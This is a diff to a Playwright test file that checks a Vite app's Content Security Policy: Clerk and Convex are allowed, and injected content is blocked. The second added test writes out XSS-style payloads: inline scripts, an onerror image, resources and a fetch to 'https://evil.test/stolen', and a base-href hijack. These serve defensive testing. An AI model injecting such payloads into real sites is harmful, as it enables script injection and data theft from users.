@@ -1,17 +1,33 @@
 import { readdir, readFile } from "node:fs/promises";
 import { dirname, join, relative, resolve } from "node:path";
 import { expect, test as base } from "@playwright/test";
+import { hearViolations } from "./contentSecurity";
 import { buildSite, watch, type StaticSite } from "./staticSite";
 
 /** What `npm run build` makes is the app alone: nothing of the sandbox, nothing secret. */
 
-const test = base.extend<object, { app: StaticSite }>({
+const CLERK = "https://clerk.app.test";
+const CONVEX = "https://happy-animal-1.convex.test";
+
+const test = base.extend<object, { app: StaticSite; configured: StaticSite }>({
   app: [
     // Playwright reads the fixtures a fixture needs from this pattern; this one needs none.
     // eslint-disable-next-line no-empty-pattern
     async ({}, use) => {
       // Hidden maps tell which modules went in, and change no byte of the rest.
       const site = await buildSite(["vite", "build", "--sourcemap", "hidden", "--outDir"], "/");
+      await use(site);
+      await site.remove();
+    },
+    { scope: "worker", timeout: 120_000 },
+  ],
+  configured: [
+    // eslint-disable-next-line no-empty-pattern -- as above
+    async ({}, use) => {
+      const site = await buildSite(["vite", "build", "--outDir"], "/", {
+        VITE_CLERK_PUBLISHABLE_KEY: `pk_live_${btoa(`${new URL(CLERK).host}$`)}`,
+        VITE_CONVEX_URL: CONVEX,
+      });
       await use(site);
       await site.remove();
     },
@@ -67,6 +83,66 @@ test("without variables the page names both, and asks no other host", async ({ a
   await expect(page.getByRole("main")).toContainText("VITE_CONVEX_URL");
   await page.waitForLoadState("networkidle");
   expect(seen).toEqual({ outside: [], errors: [] });
+});
+
+test("the policy lets the app have Clerk's script and a socket to Convex", async ({
+  configured,
+  page,
+}) => {
+  const violations = await hearViolations(page);
+  const sockets = new Array<string>();
+  await page.routeWebSocket(/./, (socket) => void sockets.push(socket.url()));
+  const script = page.waitForRequest((request) => request.url().startsWith(CLERK));
+  await page.route(`${CLERK}/**`, (route) =>
+    route.fulfill({ contentType: "text/javascript", body: "window.clerkRan = true;" }),
+  );
+  await page.goto(configured.url);
+
+  expect((await script).url()).toContain("clerk");
+  await page.waitForFunction(() => "clerkRan" in window);
+  await page.evaluate((url) => void new WebSocket(url), `${CONVEX.replace("http", "ws")}/api/sync`);
+  await expect.poll(() => sockets).not.toEqual([]);
+  expect(await violations()).toEqual([]);
+});
+
+test("the policy lets nothing run or leave that somebody has smuggled in", async ({
+  configured,
+  page,
+}) => {
+  const violations = await hearViolations(page);
+  const reached = new Array<string>();
+  await page.route(/evil\.test/, (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ body: "window.pwned = true;" });
+  });
+  await page.goto(configured.url);
+  await page.evaluate(async () => {
+    const add = (tag: string, attributes: object) =>
+      document.body.append(Object.assign(document.createElement(tag), attributes));
+    add("script", { textContent: "window.pwned = true;" });
+    add("script", { src: "https://evil.test/script.js" });
+    add("img", { src: "https://evil.test/picture.png" });
+    add("iframe", { src: "https://evil.test/frame" });
+    add("div", { innerHTML: '<img src="data:," onerror="window.pwned = true">' });
+    await fetch("https://evil.test/stolen").catch(() => null);
+    document.body.insertAdjacentHTML("beforeend", '<base href="https://evil.test/">');
+  });
+
+  await expect
+    .poll(async () => new Set(await violations()))
+    .toEqual(
+      new Set([
+        "script-src-elem inline",
+        "script-src-elem https://evil.test/script.js",
+        "script-src-attr inline",
+        "img-src https://evil.test/picture.png",
+        "frame-src https://evil.test",
+        "connect-src https://evil.test/stolen",
+        "base-uri https://evil.test/",
+      ]),
+    );
+  expect(reached).toEqual([]);
+  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
 });
 
 function isForeign(module: string): boolean {
